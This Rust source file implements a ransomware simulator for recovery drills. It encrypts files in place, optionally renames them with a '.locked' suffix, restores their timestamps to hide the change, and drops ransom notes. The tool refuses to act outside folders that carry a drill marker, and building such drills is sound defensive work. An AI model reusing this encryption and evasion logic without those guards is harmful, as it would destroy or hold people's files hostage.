//! The attacker as a process: it encrypts a store file by file, in place, and leaves its notes.
//!
//! It works only inside a folder that holds the marker of a drill, and never follows a link out of it: a practice
//! attack that destroys real files would be a real attack.

use std::fs::{self, File, FileTimes, OpenOptions};
use std::io::{Read as _, Seek as _, Write as _};
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rustix::fs::OFlags;
use sha2::{Digest as _, Sha256};

use super::{Key, Pattern, apply};
use crate::fault::During as _;
use crate::practice::post::{leave_the_session, watch_the_owner};
use crate::{Fault, Result, clock};

/// Name of the file that marks a drill's folder.
pub const MARKER: &str = ".blackstart-drill";
/// First line of that file.
pub const MARKED: &str = "blackstart drill: everything in this folder may be encrypted or deleted";
/// Name of the note left in every folder.
pub const NOTE: &str = "HOW-TO-GET-YOUR-FILES-BACK.txt";
/// What renamed files end in.
pub const ENDING: &str = "locked";

/// Encrypts a practice store.
#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Folder to encrypt; must lie in a marked drill folder.
    #[arg(long)]
    pub store: PathBuf,
    #[arg(long, value_parser = Pattern::parse)]
    pub pattern: Pattern,
    /// 64 hexadecimal digits.
    #[arg(long, value_parser = parse_key)]
    pub key: Key,
    #[arg(long, default_value_t = 1)]
    pub seed: u64,
    /// Files a second.
    #[arg(long, default_value_t = 50)]
    pub rate: u32,
    /// Where it writes what it did, one JSON line for each file.
    #[arg(long)]
    pub log: PathBuf,
}

/// One line of the attacker's own log.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct Hit {
    /// Milliseconds since 1970, after the file was changed.
    pub at_ms: u64,
    /// Path of the file as it was before.
    pub file: String,
    pub bytes: u64,
}

fn parse_key(text: &str) -> std::result::Result<Key, String> {
    let mut key = Key::default();
    let digits = text.len() == 64 && text.bytes().all(|byte| byte.is_ascii_hexdigit());
    for (index, byte) in key.iter_mut().enumerate().filter(|_| digits) {
        *byte = u8::from_str_radix(&text[2 * index..2 * index + 2], 16).map_err(|cause| cause.to_string())?;
    }
    if digits { Ok(key) } else { Err("a key has 64 hexadecimal digits".to_owned()) }
}

/// Reads the log of an attacker, finished or not. No log yet means that nothing was hit yet.
pub fn hits(log: &Path) -> Result<Vec<Hit>> {
    let text = match fs::read_to_string(log) {
        Err(cause) if cause.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        read => read.during(|| format!("cannot read the attacker's log {}", log.display()))?,
    };
    // The last line may be half written while the attacker is at work.
    let whole = text.rfind('\n').map_or("", |end| &text[..end]);
    whole
        .lines()
        .map(|line| serde_json::from_str(line).during(|| format!("broken line in {}", log.display())))
        .collect()
}

/// A folder the attacker may work in.
#[derive(Clone, Debug)]
pub struct Ground {
    /// The marked folder, without links.
    root: PathBuf,
    /// The store, without links, inside it.
    store: PathBuf,
}

impl Ground {
    /// Refuses everything that is not a folder inside a marked drill folder, and the marked folder itself.
    pub fn of(store: &Path) -> Result<Ground> {
        let refuse = |why: &str| {
            Fault::new(format!(
                "the practice attacker refuses to touch {}: {why}. It works only below a folder with the marker \
                 {MARKER}, which `blackstart-drill run` makes.",
                store.display()
            ))
        };
        let named = fs::symlink_metadata(store).map_err(|cause| refuse(&cause.to_string()))?;
        if !named.is_dir() {
            return Err(refuse("it is not a folder, or a link to one"));
        }
        let store = fs::canonicalize(store).map_err(|cause| refuse(&cause.to_string()))?;
        let root = store.ancestors().skip(1).find(|folder| marked(folder));
        let root = root.ok_or_else(|| refuse("no folder above it is marked as a drill's"))?.to_owned();
        Ok(Ground { root, store })
    }

    /// All files to attack, in a fixed order: plain files that have no second name and lie on no other file system.
    pub fn files(&self) -> Result<Vec<PathBuf>> {
        let device =
            fs::metadata(&self.root).during(|| format!("cannot look at {}", self.root.display()))?.dev();
        let (mut files, mut folders) = (Vec::new(), vec![self.store.clone()]);
        while let Some(folder) = folders.pop() {
            let doing = || format!("cannot list {}", folder.display());
            for entry in fs::read_dir(&folder).during(doing)? {
                let path = entry.during(doing)?.path();
                // A link is not followed, and a file that vanished meanwhile is no loss.
                let Ok(about) = fs::symlink_metadata(&path) else { continue };
                if about.dev() != device {
                    continue;
                }
                if about.is_dir() {
                    folders.push(path);
                } else if about.is_file() && about.nlink() == 1 {
                    files.push(path);
                }
            }
        }
        files.retain(|file| file.file_name().is_some_and(|name| name != NOTE));
        files.sort();
        Ok(files)
    }

    /// Opens one file for change, and only if what was opened still is a plain file inside the marked folder.
    fn open(&self, file: &Path) -> Result<File> {
        let doing = || format!("cannot open {}", file.display());
        let folder = file.parent().unwrap_or(&self.store);
        if !fs::canonicalize(folder).during(doing)?.starts_with(&self.root) {
            return Err(Fault::new(format!("{} leads out of the drill folder", file.display())));
        }
        let no_follow =
            i32::try_from(OFlags::NOFOLLOW.bits()).expect("open flags fit the type the kernel takes");
        let open =
            OpenOptions::new().read(true).write(true).custom_flags(no_follow).open(file).during(doing)?;
        let about = open.metadata().during(doing)?;
        if !about.is_file() || about.nlink() != 1 {
            return Err(Fault::new(format!("{} has another name elsewhere", file.display())));
        }
        Ok(open)
    }
}

fn marked(folder: &Path) -> bool {
    let marker = folder.join(MARKER);
    fs::symlink_metadata(&marker).is_ok_and(|about| about.is_file())
        && fs::read_to_string(&marker).is_ok_and(|text| text.lines().next() == Some(MARKED))
}

/// Seed of one file: another for each, or equal files would stay equal.
pub fn file_seed(seed: u64, name: &str) -> u64 {
    let digest = Sha256::new().chain_update(seed.to_le_bytes()).chain_update(name.as_bytes()).finalize();
    u64::from_le_bytes(digest[..8].try_into().expect("a digest has more than 8 bytes"))
}

/// Attacks until all files are done, or until it is killed.
pub fn run(args: &Args) -> Result<()> {
    leave_the_session();
    let ground = Ground::of(&args.store)?;
    watch_the_owner(&ground.root);
    let mut log = OpenOptions::new()
        .create(true)
        .append(true)
        .open(&args.log)
        .during(|| format!("cannot write the attacker's log {}", args.log.display()))?;
    let pause = Duration::from_secs(1) / args.rate.max(1);
    let began = Instant::now();
    for (done, file) in (0_u32..).zip(ground.files()?) {
        // A fixed pace from the start on, whatever a single file takes.
        std::thread::sleep((pause * done).saturating_sub(began.elapsed()));
        let Ok(bytes) = encrypt(&ground, &file, args) else { continue };
        let hit = Hit { at_ms: clock::now_ms(), file: file.display().to_string(), bytes };
        let line = serde_json::to_string(&hit).during(|| "cannot write a hit".to_owned())?;
        log.write_all(format!("{line}\n").as_bytes())
            .during(|| "cannot write the attacker's log".to_owned())?;
    }
    Ok(())
}

/// One file, in place, and the note beside it. Returns how many bytes it had.
pub fn encrypt(ground: &Ground, file: &Path, args: &Args) -> Result<u64> {
    let doing = || format!("cannot encrypt {}", file.display());
    let mut open = ground.open(file)?;
    let about = open.metadata().during(doing)?;
    let mut bytes = Vec::new();
    open.read_to_end(&mut bytes).during(doing)?;
    let name = file.strip_prefix(&ground.store).unwrap_or(file).display().to_string();
    apply(args.pattern, &mut bytes, &args.key, file_seed(args.seed, &name));
    open.rewind().during(doing)?;
    open.write_all(&bytes).during(doing)?;
    open.set_len(bytes.len() as u64).during(doing)?;
    if args.pattern.hides_times() {
        let times = (about.accessed().during(doing)?, about.modified().during(doing)?);
        open.set_times(FileTimes::new().set_accessed(times.0).set_modified(times.1)).during(doing)?;
    }
    if args.pattern.renames() {
        let mut renamed = file.as_os_str().to_owned();
        renamed.push(format!(".{ENDING}"));
        fs::rename(file, renamed).during(doing)?;
    }
    note(file.parent().unwrap_or(&ground.store));
    Ok(about.len())
}

/// Never over something that is there already; a folder that cannot be written gets no note.
fn note(folder: &Path) {
    let text = "This is a practice attack of a Blackstart drill.\n\nYour files have been encrypted. Do not rename them. \
                To get the key, contact practice-id-0000 at the address\nthat does not exist.\n";
    let note = OpenOptions::new().write(true).create_new(true).open(folder.join(NOTE));
    if let Ok(mut note) = note {
        let _ = note.write_all(text.as_bytes());
    }
}
